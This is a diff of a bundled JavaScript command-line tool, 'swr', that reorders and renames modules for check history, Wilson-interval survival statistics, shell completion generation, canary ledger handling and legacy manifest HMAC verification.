-    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
-        return;
-    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
-}
-function appendHistory(stateDir, record, limits = {}) {
-    const l = { ...history_DEFAULT_LIMITS, ...limits };
-    const dir = ensurePrivateDir(stateDir);
-    rotateIfFull(dir, l);
-    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
-        create: true,
-        mode: 0o600
-    });
-}
-function isRecord(v) {
-    const r = v;
-    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
-        return false;
-    if (Number.isNaN(Date.parse(r.time)))
-        return false;
-    if (r.kind === 'canary')
-        return typeof r.classes === 'object' && typeof r.locations === 'object';
-    if (r.kind === 'check')
-        return typeof r.entries === 'object' && typeof r.manifest === 'string';
-    return false;
-}
-function readHistory(stateDir) {
-    const out = { records: [], skipped: 0 };
-    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
-        let text;
-        try {
-            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
-        }
-        catch {
-            continue;
-        }
-        for (const line of text.split('\n')) {
-            if (!line.trim())
-                continue;
-            try {
-                const v = JSON.parse(line);
-                if (isRecord(v))
-                    out.records.push(v);
-                else
-                    out.skipped++;
-            }
-            catch {
-                out.skipped++;
-            }
-        }
-    }
-    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/history/wilson.ts
-/**
- * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
- * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
- * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
- */
-/** z for a two-sided 95% interval. */
-const Z95 = 1.959963984540054;
-function wilson(successes, n, z = Z95) {
-    if (!Number.isInteger(successes) ||
-        !Number.isInteger(n) ||
-        n < 0 ||
-        successes < 0 ||
-        successes > n)
-        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
-    if (n === 0)
-        return { low: 0, high: 1 };
-    const p = successes / n;
-    const z2 = z * z;
-    const centre = p + z2 / (2 * n);
-    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
-    const denom = 1 + z2 / n;
-    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
-    // rate exactly, and floating point must not put it a rounding step on the wrong side.
-    return {
-        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
-        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/history/stats.ts
-/**
- * Survival statistics from the history: per canary class, per canary location and per manifest
- * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
- * observed (one per reading: probes of one reading are not independent), plus each key's
- * recent trend (newest first) and the survival of every recorded run for charts.
- */
-
-
-const STATS_SCHEMA = 'swr.stats/1';
-const TREND_RUNS = 10;
-function mark(survived, n) {
-    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
-}
-function observe(map, key, survived, n, time) {
-    if (n === 0)
-        return;
-    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
-    const m = mark(survived, n);
-    a.n += 1;
-    a.survived += m === 'kept' ? 1 : 0;
-    a.probes += n;
-    a.intact += survived;
-    a.marks.push(m);
-    a.last = time;
-    map.set(key, a);
-}
-function rows(map) {
-    return ([...map]
-        .map(([key, a]) => {
-        const ci = wilson(a.survived, a.n);
-        return {
-            key,
-            n: a.n,
-            survived: a.survived,
-            probes: a.probes,
-            probes_intact: a.intact,
-            rate: a.survived / a.n,
-            low: ci.low,
-            high: ci.high,
-            trend: a.marks.slice(-TREND_RUNS).reverse(),
-            last_seen: a.last
-        };
-    })
-        // What needs attention first: lowest survival, then fewest observations, then name.
-        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
-}
-const total = (t) => t.intact + t.altered + t.lost;
-/** Records must be oldest first (as readHistory returns them). */
-function computeStats(records) {
-    const classes = new Map();
-    const locations = new Map();
-    const entries = new Map();
-    const runs = [];
-    for (const r of records) {
-        if (r.kind === 'canary') {
-            let kept = 0;
-            let all = 0;
-            for (const [k, t] of Object.entries(r.classes)) {
-                observe(classes, k, t.intact, total(t), r.time);
-                kept += t.intact;
-                all += total(t);
-            }
-            for (const [k, t] of Object.entries(r.locations))
-                observe(locations, k, t.intact, total(t), r.time);
-            if (all > 0)
-                runs.push({
-                    time: r.time,
-                    kind: 'canary',
-                    survival: kept / all,
-                    label: contextLabel(r.context)
-                });
-        }
-        else {
-            const statuses = Object.entries(r.entries);
-            for (const [id, status] of statuses)
-                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
-            const ok = statuses.filter(([, s]) => s === 'OK').length;
-            if (statuses.length > 0)
-                runs.push({
-                    time: r.time,
-                    kind: 'check',
-                    survival: ok / statuses.length,
-                    label: contextLabel(r.context)
-                });
-        }
-    }
-    const stats = {
-        schema: STATS_SCHEMA,
-        records: records.length,
-        canary_runs: records.filter(r => r.kind === 'canary').length,
-        check_runs: records.filter(r => r.kind === 'check').length,
-        classes: rows(classes),
-        locations: rows(locations),
-        entries: rows(entries),
-        runs
-    };
-    if (records.length > 0) {
-        stats.first = records[0].time;
-        stats.last = records[records.length - 1].time;
-    }
-    return stats;
-}
-/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
-function recentLosses(records, id, window = TREND_RUNS) {
-    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
-    const last = seen.slice(-window);
-    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/check.ts
-/** `swr check` and `swr why`: verify read-only, print the findings, exit 0 healthy / 1 damaged. */
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** One history line: this run's status of every entry checked (for "swr stats" and "swr why"). */
-function recordCheck(report, m, io) {
-    appendHistory(stateDir(io), checkRecord(report, m, runContext(io.env)), historyLimits(io));
-}
-/** For each damaged entry with a pattern of losses in the history, what to change. */
-function historyNotes(report, m, io) {
-    const records = readHistory(stateDir(io)).records.filter(r => r.kind === 'check' && r.manifest === m.file);
-    const notes = new Map();
-    for (const f of report.results) {
-        if (f.status === 'OK')
-            continue;
-        const entry = m.body.entries.find(e => e.id === f.id);
-        const advice = entry && historyAdvice(entry, recentLosses(records, f.id));
-        if (advice)
-            notes.set(f.id, advice);
-    }
-    return notes;
-}
-async function runChecked(flags, io, command) {
-    const located = manifestLocation(flags, io);
-    const manifest = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
-    const progress = startProgress(io, 'hashing', !flags.json && !flags.quiet);
-    try {
-        const report = await checkManifest(manifest, {
-            only: flags.only,
-            deep: flags.deep,
-            metaOnly: flags.meta,
-            cache: flags.cache,
-            jobs: flags.jobs,
-            stateDir: stateDir(io),
-            version: VERSION,
-            command,
-            onProgress: progress.update
-        });
-        return { report, manifest };
-    }
-    finally {
-        progress.stop();
-    }
-}
-async function checkCommand(flags, io) {
-    const checked = await runChecked(flags, io, 'check');
-    let report = checked.report;
-    let refused = false;
-    if (flags.runSmoke) {
-        // Smoke commands are manifest code: the gate decides, as for recipes.
-        const m = checked.manifest;
-        const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
-        for (const w of gate.warnings)
-            io.stderr.write(`swr: warning: ${w}\n`);
-        const smoked = await runSmokes(m, report.results, gate, io.env, io.abort);
-        const rebuilt = buildReport({
-            command: 'check',
-            version: VERSION,
-            manifest: m,
-            findings: smoked.findings,
-            options: report.options,
-            started: new Date(report.timing.started),
-            ms: Date.now() - Date.parse(report.timing.started)
-        });
-        report = { ...rebuilt, smoke: smoked.smoke };
-        refused = !gate.allowed;
-        if (refused)
-            io.stderr.write(`swr: smoke commands not run: ${gate.reason}\n`);
-    }
-    if (flags.cacheLookup) {
-        const client = cliCacheClient(checked.manifest, io);
-        if (client) {
-            const entries = selectEntries(checked.manifest.body.entries, flags.only);
-            report = {
-                ...report,
-                cache_lookup: await lookupSavedStates(checked.manifest, entries, client)
-            };
-            if (!flags.json) {
-                for (const l of report.cache_lookup ?? [])
-                    io.stdout.write(`cache ${l.available ? 'saved    ' : 'not saved'} ${l.id}  (${l.key})\n`);
-            }
-        }
-        else
-            io.stderr.write('swr: --cache-lookup: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
-    }
-    if (flags.record)
-        recordCheck(report, checked.manifest, io);
-    if (flags.json)
-        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
-    else if (!flags.quiet || report.verdict !== 'healthy') {
-        io.stdout.write(renderCheck(report, { color: useColor(io, flags.color), all: flags.all === true }));
-    }
-    if (refused)
-        return EXIT.UNREPAIRABLE;
-    return report.verdict === 'healthy' ? EXIT.HEALTHY : EXIT.DAMAGED;
-}
-async function whyCommand(flags, io) {
-    const { report, manifest } = await runChecked(flags, io, 'why');
-    if (flags.json) {
-        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
-    }
-    else {
-        const notes = new Map(manifest.body.entries.flatMap(e => (e.note ? [[e.id, e.note]] : [])));
-        io.stdout.write(renderWhy(report, { color: useColor(io, flags.color), all: false }, notes, historyNotes(report, manifest, io)));
-    }
-    return report.verdict === 'healthy' ? EXIT.HEALTHY : EXIT.DAMAGED;
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/completion.ts
-
-const SHELLS = ['bash', 'zsh', 'fish'];
-function optionsOf(cmd) {
-    return cmd.options
-        .filter(o => !o.hidden)
-        .map(o => ({
-        long: o.long,
-        short: o.short,
-        description: o.description,
-        takesValue: o.required || o.optional
-    }));
-}
-/** Every command reachable from the root, aliases included as their own paths. */
-function walk(root) {
-    const nodes = [];
-    const visit = (cmd, at) => {
-        const visible = cmd.commands.filter(c => !c._hidden);
-        nodes.push({
-            path: at,
-            description: cmd.description(),
-            options: optionsOf(cmd),
-            subcommands: visible.flatMap(c => [c.name(), ...c.aliases()].map(name => ({ name, description: c.description() })))
-        });
-        for (const c of visible)
-            for (const name of [c.name(), ...c.aliases()])
-                visit(c, [...at, name]);
-    };
-    visit(root, []);
-    return nodes;
-}
-/** POSIX single quotes: the only character that needs care inside them is the quote itself. */
-function sq(s) {
-    return `'${s.replace(/'/g, `'\\''`)}'`;
-}
-/** A description short enough for a completion menu: up to the first clause, at most 70 chars. */
-function summary(s) {
-    const line = s.split('\n')[0] ?? '';
-    const cut = line.search(/[:;(]/);
-    const text = (cut > 20 ? line.slice(0, cut) : line).trim();
-    if (text.length <= 70)
-        return text;
-    return text.slice(0, text.lastIndexOf(' ', 67)) + '...';
-}
-function flagsOf(node) {
-    return node.options.flatMap(o => [o.long, o.short].filter((f) => !!f));
-}
-function valueFlagsOf(node) {
-    return node.options
-        .filter(o => o.takesValue)
-        .flatMap(o => [o.long, o.short].filter((f) => !!f));
-}
-/**
- * bash: the command path is the leading words that name subcommands; after it, options of that
- * command, and file names after an option that takes a value or for positional arguments.
- */
-function bash(nodes) {
-    const cases = nodes.map(n => {
-        const subs = n.subcommands.map(s => s.name).join(' ');
-        const flags = [...flagsOf(n), '--help'].join(' ');
-        return `    ${sq(n.path.join(' '))}) subs=${sq(subs)}; flags=${sq(flags)}; valued=${sq(valueFlagsOf(n).join(' '))} ;;`;
-    });
-    return `# swr completion for bash: eval "$(swr completion bash)" in ~/.bashrc
-_swr_complete() {
-  local cur=\${COMP_WORDS[COMP_CWORD]} prev=\${COMP_WORDS[COMP_CWORD-1]}
-  local path="" i w subs flags valued next
-  for ((i = 1; i < COMP_CWORD; i++)); do
-    w=\${COMP_WORDS[i]}
-    [[ $w == -* ]] && continue
-    next="\${path:+$path }$w"
-    _swr_node "$next" || break
-    path=$next
-  done
-  _swr_node "$path"
-  if [[ -n $prev && " $valued " == *" $prev "* ]]; then
-    COMPREPLY=($(compgen -f -- "$cur"))
-  elif [[ $cur == -* ]]; then
-    COMPREPLY=($(compgen -W "$flags" -- "$cur"))
-  elif [[ -n $subs ]]; then
-    COMPREPLY=($(compgen -W "$subs" -- "$cur"))
-  else
-    COMPREPLY=($(compgen -f -- "$cur"))
-  fi
-  return 0
-}
-_swr_node() {
-  subs="" flags="" valued=""
-  case "$1" in
-${cases.join('\n')}
-    *) return 1 ;;
-  esac
-}
-complete -o filenames -F _swr_complete swr
-`;
-}
-/** zsh: the bash function through zsh's own bash-completion bridge, which ships with zsh. */
-function zsh(nodes) {
-    return `#compdef swr
-# swr completion for zsh: eval "$(swr completion zsh)" in ~/.zshrc
-(( $+functions[compdef] )) || { autoload -Uz compinit && compinit }
-autoload -U +X bashcompinit && bashcompinit
-${bash(nodes).split('\n').slice(1).join('\n')}`;
-}
-/** fish: one `complete` line per subcommand and option, with its description. */
-function fish(nodes) {
-    const lines = ['# swr completion for fish: swr completion fish | source'];
-    for (const n of nodes) {
-        // The condition: exactly this path has been typed, and nothing deeper.
-        const seen = n.path.map(p => `__fish_seen_subcommand_from ${sq(p)}`);
-        const deeper = n.subcommands.length
-            ? [`not __fish_seen_subcommand_from ${n.subcommands.map(s => sq(s.name)).join(' ')}`]
-            : [];
-        const cond = n.path.length === 0 ? ['__fish_use_subcommand'] : [...seen, ...deeper];
-        const when = sq(cond.join('; and '));
-        for (const s of n.subcommands)
-            lines.push(`complete -c swr -n ${when} -f -a ${sq(s.name)} -d ${sq(summary(s.description))}`);
-        for (const o of n.options) {
-            const parts = ['complete -c swr -n', when];
-            if (o.long)
-                parts.push('-l', sq(o.long.replace(/^--/, '')));
-            if (o.short)
-                parts.push('-s', sq(o.short.replace(/^-/, '')));
-            if (o.takesValue)
-                parts.push('-r', '-F');
-            parts.push('-d', sq(summary(o.description)));
-            lines.push(parts.join(' '));
-        }
-    }
-    return lines.join('\n') + '\n';
-}
-function completionScript(program, shell) {
-    const nodes = walk(program);
-    switch (shell) {
-        case 'bash':
-            return bash(nodes);
-        case 'zsh':
-            return zsh(nodes);
-        case 'fish':
-            return fish(nodes);
-        default:
-            throw new SwrError(`completion: unknown shell "${shell.slice(0, 20)}" (choose ${SHELLS.join(', ')})`, EXIT.BAD_MANIFEST);
     }
 }
 
@@ -24907,12 +22583,12 @@ const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
 function ledgerPath(stateDir) {
     return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
 }
-function ledger_keyPath(stateDir) {
+function keyPath(stateDir) {
     return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
 }
 /** The ledger key, or undefined when there is none (nothing was planted with this state). */
 function readKey(stateDir) {
-    const file = ledger_keyPath(stateDir);
+    const file = keyPath(stateDir);
     let fd;
     try {
         fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
@@ -24941,7 +22617,7 @@ function ledgerKey(stateDir) {
         return have;
     ensurePrivateDir(stateDir, CANARY_DIR);
     try {
-        writeFileAtomic(ledger_keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
+        writeFileAtomic(keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
             mode: 0o600,
             exclusive: true
         });
@@ -24952,7 +22628,7 @@ function ledgerKey(stateDir) {
     }
     const key = readKey(stateDir);
     if (!key)
-        throw bad(ledger_keyPath(stateDir), 'vanished after it was created');
+        throw bad(keyPath(stateDir), 'vanished after it was created');
     return key;
 }
 function macOf(key, body) {
@@ -24984,7 +22660,7 @@ function authenticate(stateDir, file, v) {
         throw refuse('fails authentication: not written by swr with this state directory, or altered');
 }
 function bad(file, why) {
-    return new SwrError(`canary ledger ${file}: ${why}`, EXIT.BAD_MANIFEST);
+    return new SwrError(`canary ledger ${file}: ${why}`, errors_EXIT.BAD_MANIFEST);
 }
 function isAnchored(v) {
     const a = v;
@@ -25309,8 +22985,104 @@ function plantCanaries(opts) {
         const code = errnoCode(err);
         throw new SwrError(code === 'EEXIST'
             ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
-            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, EXIT.UNREPAIRABLE);
+            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, errors_EXIT.UNREPAIRABLE);
     }
+}
+
+;// CONCATENATED MODULE: ./src/core/history/history.ts
+/**
+ * The history: one JSON line per observation (a canary read, a recorded check), in the private
+ * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
+ * (replacing the previous generation), so the history never grows without end and the newest
+ * records are never the ones dropped. Appends use O_APPEND with one write per record, so
+ * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
+ */
+
+
+
+
+const HISTORY_FILE = 'history.jsonl';
+const HISTORY_ROTATED = 'history.1.jsonl';
+const history_DEFAULT_LIMITS = {
+    maxRecords: 1000,
+    maxBytes: 4 * 1024 * 1024
+};
+/** One check's record: the status of every entry it checked (for stats and `swr why`). */
+function checkRecord(report, manifest, context) {
+    return {
+        v: 1,
+        kind: 'check',
+        time: report.timing.started,
+        context,
+        manifest: manifest.file,
+        digest: manifest.digest,
+        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
+    };
+}
+function countLines(file) {
+    const buf = external_node_fs_default().readFileSync(file);
+    let n = 0;
+    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
+        n++;
+    return n;
+}
+function rotateIfFull(dir, limits) {
+    const file = external_node_path_default().join(dir, HISTORY_FILE);
+    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
+        return;
+    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
+}
+function appendHistory(stateDir, record, limits = {}) {
+    const l = { ...history_DEFAULT_LIMITS, ...limits };
+    const dir = ensurePrivateDir(stateDir);
+    rotateIfFull(dir, l);
+    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
+        create: true,
+        mode: 0o600
+    });
+}
+function isRecord(v) {
+    const r = v;
+    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
+        return false;
+    if (Number.isNaN(Date.parse(r.time)))
+        return false;
+    if (r.kind === 'canary')
+        return typeof r.classes === 'object' && typeof r.locations === 'object';
+    if (r.kind === 'check')
+        return typeof r.entries === 'object' && typeof r.manifest === 'string';
+    return false;
+}
+function readHistory(stateDir) {
+    const out = { records: [], skipped: 0 };
+    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
+        let text;
+        try {
+            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
+        }
+        catch {
+            continue;
+        }
+        for (const line of text.split('\n')) {
+            if (!line.trim())
+                continue;
+            try {
+                const v = JSON.parse(line);
+                if (isRecord(v))
+                    out.records.push(v);
+                else
+                    out.skipped++;
+            }
+            catch {
+                out.skipped++;
+            }
+        }
+    }
+    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
+    return out;
 }
 
 ;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
@@ -25452,13 +23224,13 @@ function inspectProbe(probe, abs) {
 
 
 const CANARY_READ_SCHEMA = 'swr.canary-read/1';
-function read_tally() {
+function tally() {
     return { intact: 0, altered: 0, lost: 0 };
 }
 function readCanaries(opts) {
     const ledger = readLedger(opts.stateDir);
     if (!ledger)
-        throw new SwrError('no canary planting to read: run "swr canary plant" first', EXIT.BAD_MANIFEST);
+        throw new SwrError('no canary planting to read: run "swr canary plant" first', errors_EXIT.BAD_MANIFEST);
     const readAt = (opts.now ?? new Date()).toISOString();
     const reading = {
         schema: CANARY_READ_SCHEMA,
@@ -25468,7 +23240,7 @@ function readCanaries(opts) {
         planted_by: ledger.context,
         read_by: opts.context,
         reread: ledger.read_at !== undefined,
-        totals: read_tally(),
+        totals: tally(),
         classes: {},
         locations: {},
         probes: []
@@ -25481,8 +23253,8 @@ function readCanaries(opts) {
             path: showAnchored(p.path),
             outcome
         });
-        const cls = (reading.classes[p.class] ??= { ...read_tally(), attributes: {} });
-        const loc = (reading.locations[p.location] ??= read_tally());
+        const cls = (reading.classes[p.class] ??= { ...tally(), attributes: {} });
+        const loc = (reading.locations[p.location] ??= tally());
         for (const t of [reading.totals, cls, loc])
             t[outcome.state]++;
         if (outcome.state === 'altered')
@@ -25507,6 +23279,301 @@ function canaryRecord(r) {
         classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
         locations: r.locations
     };
+}
+
+;// CONCATENATED MODULE: ./src/core/history/advice.ts
+
+/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
+function isPattern(c) {
+    return c.lost >= 2 && c.lost / c.of >= 0.3;
+}
+function historyAdvice(e, c) {
+    if (!isPattern(c))
+        return undefined;
+    const ideas = [];
+    if (e.tier > 0)
+        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
+    if (!restoreSources(e).some(s => typeof s !== 'string'))
+        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
+    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
+        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
+    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
+    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
+}
+
+;// CONCATENATED MODULE: ./src/core/history/context.ts
+/**
+ * Who made an observation: enough of the runner, job and machine to tell the platforms apart
+ * when their survival differs. Built from an environment the shell passes in.
+ */
+
+const FROM_ENV = [
+    ['runner_os', 'RUNNER_OS'],
+    ['runner_name', 'RUNNER_NAME'],
+    ['runner_arch', 'RUNNER_ARCH'],
+    ['repository', 'GITHUB_REPOSITORY'],
+    ['workflow', 'GITHUB_WORKFLOW'],
+    ['job', 'GITHUB_JOB'],
+    ['run_id', 'GITHUB_RUN_ID'],
+    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
+];
+function runContext(env) {
+    const ctx = { platform: `${process.platform}-${process.arch}` };
+    for (const [field, name] of FROM_ENV) {
+        const v = env[name];
+        if (v)
+            ctx[field] = v.slice(0, 200);
+    }
+    if (!ctx.runner_name)
+        ctx.host = external_node_os_default().hostname().slice(0, 200);
+    return ctx;
+}
+/** One short label for tables: `Linux/runner-3`, `host.local`. */
+function contextLabel(ctx) {
+    if (ctx.runner_os || ctx.runner_name)
+        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
+    return ctx.host ?? ctx.platform;
+}
+
+;// CONCATENATED MODULE: ./src/core/history/wilson.ts
+/**
+ * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
+ * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
+ * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
+ */
+/** z for a two-sided 95% interval. */
+const Z95 = 1.959963984540054;
+function wilson(successes, n, z = Z95) {
+    if (!Number.isInteger(successes) ||
+        !Number.isInteger(n) ||
+        n < 0 ||
+        successes < 0 ||
+        successes > n)
+        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
+    if (n === 0)
+        return { low: 0, high: 1 };
+    const p = successes / n;
+    const z2 = z * z;
+    const centre = p + z2 / (2 * n);
+    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
+    const denom = 1 + z2 / n;
+    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
+    // rate exactly, and floating point must not put it a rounding step on the wrong side.
+    return {
+        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
+        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/history/stats.ts
+/**
+ * Survival statistics from the history: per canary class, per canary location and per manifest
+ * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
+ * observed (one per reading: probes of one reading are not independent), plus each key's
+ * recent trend (newest first) and the survival of every recorded run for charts.
+ */
+
+
+const STATS_SCHEMA = 'swr.stats/1';
+const TREND_RUNS = 10;
+function mark(survived, n) {
+    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
+}
+function observe(map, key, survived, n, time) {
+    if (n === 0)
+        return;
+    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
+    const m = mark(survived, n);
+    a.n += 1;
+    a.survived += m === 'kept' ? 1 : 0;
+    a.probes += n;
+    a.intact += survived;
+    a.marks.push(m);
+    a.last = time;
+    map.set(key, a);
+}
+function rows(map) {
+    return ([...map]
+        .map(([key, a]) => {
+        const ci = wilson(a.survived, a.n);
+        return {
+            key,
+            n: a.n,
+            survived: a.survived,
+            probes: a.probes,
+            probes_intact: a.intact,
+            rate: a.survived / a.n,
+            low: ci.low,
+            high: ci.high,
+            trend: a.marks.slice(-TREND_RUNS).reverse(),
+            last_seen: a.last
+        };
+    })
+        // What needs attention first: lowest survival, then fewest observations, then name.
+        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
+}
+const total = (t) => t.intact + t.altered + t.lost;
+/** Records must be oldest first (as readHistory returns them). */
+function computeStats(records) {
+    const classes = new Map();
+    const locations = new Map();
+    const entries = new Map();
+    const runs = [];
+    for (const r of records) {
+        if (r.kind === 'canary') {
+            let kept = 0;
+            let all = 0;
+            for (const [k, t] of Object.entries(r.classes)) {
+                observe(classes, k, t.intact, total(t), r.time);
+                kept += t.intact;
+                all += total(t);
+            }
+            for (const [k, t] of Object.entries(r.locations))
+                observe(locations, k, t.intact, total(t), r.time);
+            if (all > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'canary',
+                    survival: kept / all,
+                    label: contextLabel(r.context)
+                });
+        }
+        else {
+            const statuses = Object.entries(r.entries);
+            for (const [id, status] of statuses)
+                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
+            const ok = statuses.filter(([, s]) => s === 'OK').length;
+            if (statuses.length > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'check',
+                    survival: ok / statuses.length,
+                    label: contextLabel(r.context)
+                });
+        }
+    }
+    const stats = {
+        schema: STATS_SCHEMA,
+        records: records.length,
+        canary_runs: records.filter(r => r.kind === 'canary').length,
+        check_runs: records.filter(r => r.kind === 'check').length,
+        classes: rows(classes),
+        locations: rows(locations),
+        entries: rows(entries),
+        runs
+    };
+    if (records.length > 0) {
+        stats.first = records[0].time;
+        stats.last = records[records.length - 1].time;
+    }
+    return stats;
+}
+/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
+function recentLosses(records, id, window = TREND_RUNS) {
+    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
+    const last = seen.slice(-window);
+    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
+/**
+ * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
+ * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
+ * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
+ * characters of its key file, used as text (not decoded).
+ */
+
+/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
+function byCodePoint(a, b) {
+    const x = [...a];
+    const y = [...b];
+    for (let i = 0; i < Math.min(x.length, y.length); i++) {
+        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return x.length - y.length;
+}
+/**
+ * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
+ * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
+ * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
+ */
+function pythonCanonical(v) {
+    if (v === null || typeof v !== 'object')
+        return JSON.stringify(v);
+    if (Array.isArray(v))
+        return `[${v.map(pythonCanonical).join(',')}]`;
+    const keys = Object.keys(v).sort(byCodePoint);
+    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
+}
+/** Check a format-2 document's `_sig` against the original tool's key file text. */
+function verifyLegacyHmac(v2, keyFileText) {
+    const sig = v2._sig;
+    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
+        return 'absent';
+    const value = sig.value;
+    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
+        return 'invalid';
+    const body = {};
+    for (const [k, x] of Object.entries(v2))
+        if (k !== '_sig' && k !== '_pksig')
+            body[k] = x;
+    const key = Buffer.from(keyFileText.trim(), 'utf8');
+    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(pythonCanonical(body), 'utf8').digest();
+    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/severity.ts
+const RANK = {
+    MISSING: 0,
+    EMPTY: 1,
+    TYPE: 2,
+    CORRUPT: 3,
+    BROKENLNK: 4,
+    SMOKEFAIL: 5,
+    STRIPPED: 6,
+    SKIPPED: 7,
+    OK: 8
+};
+/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
+function severity_bySeverity(findings) {
+    return findings
+        .filter(f => f.status !== 'OK')
